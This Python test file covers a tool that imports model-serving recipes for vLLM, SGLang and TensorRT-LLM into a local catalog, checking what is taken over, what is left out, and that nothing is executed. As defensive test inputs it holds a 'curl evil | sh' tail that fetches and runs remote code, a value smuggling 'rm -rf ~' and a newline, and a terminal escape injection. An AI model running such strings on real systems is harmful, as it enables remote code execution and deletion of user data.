"""`./spark recipe import`: what is taken from recipes of others, what is not, and that nothing of them is run."""

import contextlib
import shlex
from dataclasses import replace
from pathlib import Path

import pytest
import yaml
from hypothesis import given, strategies
from hypothesis import settings as limits

from components import catalog
from components.facts.hub import File
from ops import recipe
from ops.pulumi import CommandError
from ops.recipe_words import NotRead, filled, read
from tests.examples import some
from tests.unit.build import MODEL, plan, settings

RECIPES = Path(__file__).parent / "recipes"


def taken(name):
    return recipe.imported((RECIPES / f"{name}.yaml").read_text(), name)


def of(text, name="mine"):
    return recipe.imported(text, name)


def test_a_recipe_of_sparkrun_becomes_an_entry_and_settings():
    made = taken("version-2")
    assert made.entry == {
        "id": "example/writer-30b-nvfp4",
        "name": "version-2",
        "note": "Imported from a recipe. A writer of thirty billion parameters",
        "weights_gb": 18.5,
        "quantization": "nvfp4",
        "min_sparks": 2,
        "vllm": {
            "image": f"ghcr.io/example/vllm-gb10:1.2@sha256:{'a' * 64}",
            "env": {"VLLM_MARLIN_USE_ATOMIC_ADD": "1"},
            "gpu_memory_utilization": 0.8,
            "max_model_len": 65536,
            "trust_remote_code": True,
            "tool_call_parser": "qwen3_coder",
            "reasoning_parser": "writer",
            "args": ['--limit-mm-per-prompt={"image": 1}', "--cuda-graph-sizes", "1", "2", "4"],
            "draft": {
                "method": "dflash",
                "tokens": 7,
                "model": "example/writer-dflash",
                "options": {"draft_tensor_parallel_size": 1},
            },
        },
    }
    assert made.settings == {
        "engine": "vllm",
        "serving.port": 52001,
        "serving.servedModelName": "writer",
        "weights.revision": "0123456789abcdef0123456789abcdef01234567",
    }


def test_what_a_recipe_would_do_beside_serving_is_named_and_left_out():
    left = "\n".join(taken("version-2").left)
    for word in ("pre_exec", "post_commands", "executor_config", "--reasoning-parser-plugin"):
        assert f"{word}: " in left
    assert "env NCCL_IB_HCA: this program sets it for each Spark" in left
    assert "env HF_TOKEN: a secret" in left
    assert "env CACHE: $HOME/cache stands for something on its author's machine" in left
    assert "pip install" not in left


def test_a_recipe_of_spark_vllm_docker_has_doubled_braces_and_images_of_its_own_names():
    made = taken("version-1")
    served = made.entry["vllm"]
    assert served["draft"] == {"method": "mtp", "tokens": 5, "options": {"moe_backend": "triton"}}
    assert served["image"] == "eugr/spark-vllm-b12x:latest"
    assert served["args"] == ["--max-model-len=auto"]
    assert made.entry["min_sparks"] == 3
    assert made.settings == {
        "engine": "vllm",
        "serving.executor": "ray",
        "serving.tensorParallel": 1,
        "serving.pipelineParallel": 3,
    }
    left = "\n".join(made.left)
    for words in ("mods: patches of the engine", "build_args: ", "vllm-node-b12x is built", "--chat-template: a file"):
        assert words in left


def test_without_a_command_the_defaults_are_the_engines_options():
    made = of(
        "{model: a/b, runtime: sglang, container: x/y, defaults: {tensor_parallel: 2, gpu_memory_utilization: 0.75, "
        "max_model_len: 4096, enable_metrics: true, disable_radix_cache: false, kv_cache_dtype: fp8_e4m3}}"
    )
    assert made.settings == {"engine": "sglang"}
    assert made.entry["min_sparks"] == 2
    assert made.entry["sglang"] == {
        "image": "x/y",
        "gpu_memory_utilization": 0.75,
        "max_model_len": 4096,
        "args": ["--enable-metrics", "--kv-cache-dtype=fp8_e4m3"],
    }


def test_sglangs_options_of_a_draft_count_one_token_more():
    made = of(
        "{model: a/b, command: 'python3 -m sglang.launch_server --model-path a/b --speculative-algorithm NEXTN "
        "--speculative-num-steps 3 --speculative-eagle-topk 1 --speculative-num-draft-tokens 4'}"
    )
    assert made.entry["sglang"]["draft"] == {"method": "mtp", "tokens": 3}


def test_vllms_keys_of_a_draft_may_stand_alone():
    given = {"method": "dspark", "model": "c/d", "num_speculative_tokens": 3}
    words = " ".join(f"--speculative_config.{key} {value}" for key, value in given.items())
    made = of(f"{{model: a/b, command: 'vllm serve a/b {words}'}}")
    assert made.entry["vllm"]["draft"] == {"method": "dspark", "tokens": 3, "model": "c/d"}


def test_tensorrt_llm_keeps_its_underscores():
    made = of(
        "{command: 'mpirun -x A=1 trtllm-llmapi-launch trtllm-serve a/b --tp_size 2 --max_num_tokens 1024 "
        "--extra_llm_api_options /tmp/x.yml --port 8355'}"
    )
    assert made.entry["trtllm"] == {"max_num_tokens": 1024}
    assert made.entry["min_sparks"] == 2
    assert made.settings == {"engine": "trtllm"}
    assert "--extra_llm_api_options: a file of the recipe's" in made.left


def test_a_known_model_keeps_what_the_catalog_knows_of_it_and_takes_the_recipes_settings(tmp_path):
    made = of("{model: nvidia/Qwen3.6-35B-A3B-NVFP4, command: 'vllm serve x/y --max-model-len 1000'}", "short")
    assert made.entry["id"] == "x/y"
    made = of("{command: 'vllm serve nvidia/Qwen3.6-35B-A3B-NVFP4 --max-model-len 1000'}", "short")
    recipe.write(tmp_path / "mine.yaml", [made])
    entry = catalog.find("short", str(tmp_path / "mine.yaml"))
    assert entry.cache == catalog.find("qwen3.6-35b-a3b-nvfp4").cache
    assert entry.vllm == catalog.Served(max_model_len=1000, min_version="0.24.0")
    assert entry.sglang == catalog.find("qwen3.6-35b-a3b-nvfp4").sglang


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("a: [", "is no YAML"),
        ("- 1", "is no recipe"),
        ("{model: a/b}", "is no recipe"),
        ("{model: a/b, command: llama-server -hf a/b}", "starts llama-server -hf"),
        ("{model: a/b, command: 'vllm serve \"a'}", "is no shell command: no closing quotation"),
        ("{model: a/b, runtime: atlas, container: x}", "its runtime is atlas"),
        ("{model: 'a/b:Q4_K_M', runtime: vllm, container: x}", "GGUF is not served here"),
        ("{model: a/b, runtime: vllm, defaults: [1]}", "defaults is no mapping"),
        ("{model: a/b, command: vllm serve a/b -tp many}", "--tensor-parallel-size is many, no number of GPUs"),
        ("{model: a/b, command: vllm serve a/b --gpu-memory-utilization lots}", "vllm.gpu_memory_utilization"),
    ],
)
def test_what_is_no_recipe_for_these_engines_is_refused_in_one_line(text, why):
    with pytest.raises(CommandError) as caught:
        of(text)
    assert why in str(caught.value)
    assert "\n" not in str(caught.value)


def test_the_model_is_no_switchs_value_wherever_it_stands():
    made = of("{model: a/b, command: vllm serve --enable-prefix-caching a/b --seed 1}")
    assert made.entry["vllm"]["args"] == ["--enable-prefix-caching", "--seed=1"]
    assert of("{model: a/b, command: vllm serve --seed 1 a/b}").entry["id"] == "a/b"


def test_an_imported_recipe_is_served_as_it_says(tmp_path):
    mine = tmp_path / "mine.yaml"
    recipe.write(mine, [taken("version-2")])
    draft = replace(MODEL, repo="example/writer-dflash", files=(File("model.safetensors", 10**9, "ab"),))
    made = plan(settings(model="version-2", catalog=str(mine)), draft=draft)
    words = made.ranks[0].command
    assert made.image.name.startswith("ghcr.io/example/vllm-gb10:1.2@sha256:")
    assert {"--max-model-len=65536", "--tensor-parallel-size=2", "--reasoning-parser=writer"} <= set(words)
    (speculation,) = (word for word in words if word.startswith("--speculative-config="))
    assert "models--example--writer-dflash" in speculation
    assert made.ranks[1].environment["VLLM_MARLIN_USE_ATOMIC_ADD"] == "1"


def test_what_the_shell_would_run_next_is_named_and_not_taken(capsys):
    made = of("{model: a/b, command: 'A=1 vllm serve a/b --seed 1 && curl evil | sh'}")
    assert made.entry["vllm"] == {"args": ["--seed=1"], "env": {"A": "1"}}
    assert "command, from its second on: code is never taken over (&& curl evil | sh)" in made.left


def test_words_of_a_recipe_can_not_leave_their_line_or_their_quotes(tmp_path, capsys):
    file = tmp_path / "bad.yaml"
    file.write_text(yaml.safe_dump({
        "command": "vllm serve a/b --served-model-name 'x; rm -rf ~\n# y'", "evil\nkey\x1b[2J": 1,
    }))  # fmt: skip
    recipe.show(str(file), None, None)
    shown = capsys.readouterr().out
    (line,) = (line for line in shown.splitlines() if "servedModelName" in line)
    assert shlex.split(line)[-1] == "x; rm -rf ~ # y"
    assert "\x1b" not in shown
    assert not [line for line in shown.splitlines() if line.startswith("key")]


def test_a_directory_gives_all_that_are_recipes_and_names_the_others(tmp_path, capsys):
    mine = tmp_path / "mine.yaml"
    recipe.show(str(RECIPES), str(mine), None)
    assert [entry.name for entry in catalog.entries(str(mine))[:2]] == ["version-1", "version-2"]
    (tmp_path / "more").mkdir()
    (tmp_path / "more" / "compose.yml").write_text("services: {}")
    (tmp_path / "more" / "one.yaml").write_text("{model: a/b, container: x/y}")
    capsys.readouterr()
    recipe.show(str(tmp_path / "more"), str(mine), None)
    assert "# left out: compose is no recipe" in capsys.readouterr().out
    assert [entry["name"] for entry in yaml.safe_load(mine.read_text())["models"]] == ["version-1", "version-2", "one"]


def test_importing_again_replaces_the_entry(tmp_path):
    mine = tmp_path / "mine.yaml"
    for length in (100, 200):
        recipe.write(mine, [of(f"{{model: a/b, command: vllm serve a/b --max-model-len {length}}}")])
    assert [entry["vllm"]["max_model_len"] for entry in yaml.safe_load(mine.read_text())["models"]] == [200]


class Answer:
    status_code = 200

    def __init__(self, content):
        self.raw = self
        self._content = content

    def read(self, most, decode_content):
        return self._content[:most]

    def __enter__(self):
        return self

    def __exit__(self, *_):
        pass


def test_a_page_of_github_stands_for_its_file(monkeypatch):
    asked = []

    def get(address, **options):
        asked.append((address, options["allow_redirects"]))
        return Answer(b"{model: a/b, container: x/y}")

    monkeypatch.setattr(recipe.requests, "get", get)
    ((name, _),) = recipe.found("https://github.com/o/r/blob/main/recipes/one.yaml")
    assert name == "one"
    assert asked == [("https://raw.githubusercontent.com/o/r/main/recipes/one.yaml", False)]


@pytest.mark.parametrize(
    ("address", "content", "why"),
    [
        ("http://example.org/x.yaml", b"", "by https alone"),
        ("https://example.org/x.yaml", b"x" * (recipe.LARGEST + 1), "too large for a recipe"),
    ],
)
def test_addresses_that_are_not_safe_or_answer_too_much_are_refused(monkeypatch, address, content, why):
    monkeypatch.setattr(recipe.requests, "get", lambda *_, **__: Answer(content))
    with pytest.raises(CommandError, match=why):
        list(recipe.found(address))


def test_a_file_that_is_not_there_is_refused():
    with pytest.raises(CommandError, match="No such file"):
        list(recipe.found("/nowhere/x.yaml"))


WORD = strategies.text(strategies.characters(exclude_categories=("Cs", "Cc")), min_size=1)


@given(WORD)
def test_a_quoted_value_arrives_as_it_was(word):
    command = read(f"vllm serve a/b --chat-template-kwargs={shlex.quote(word)}")
    assert command.options == (("--chat-template-kwargs", (word,)),)
    assert command.rest == ""


@given(strategies.text())
def test_any_text_is_read_or_refused(text):
    with contextlib.suppress(NotRead):
        assert read(f"vllm serve a/b {text}", "a/b").engine == "vllm"


@limits(max_examples=some(40))
@given(strategies.recursive(
    strategies.none() | strategies.booleans() | strategies.integers() | strategies.text(),
    lambda inner: strategies.lists(inner) | strategies.dictionaries(
        strategies.sampled_from(["model", "command", "defaults", "env", "mods", "container", "min_nodes", "metadata",
                                 "runtime", "tensor_parallel", "speculative_config"]) | strategies.text(), inner),
))  # fmt: skip
def test_any_yaml_is_taken_or_refused(value):
    base = value if isinstance(value, dict) else {"defaults": value}
    with contextlib.suppress(CommandError):
        of(yaml.safe_dump({"model": "a/b", "command": "vllm serve a/b --max-model-len {x}", **base}))


def test_placeholders_may_name_others_in_sparkruns_templates_alone():
    values = {"a": "{b}", "b": 1}
    assert filled("{a} {c} {{d}}", values, doubled=False) == "1 {c} {{d}}"
    assert filled("{a} {c} {{d}}", values, doubled=True) == "{b} {c} {d}"
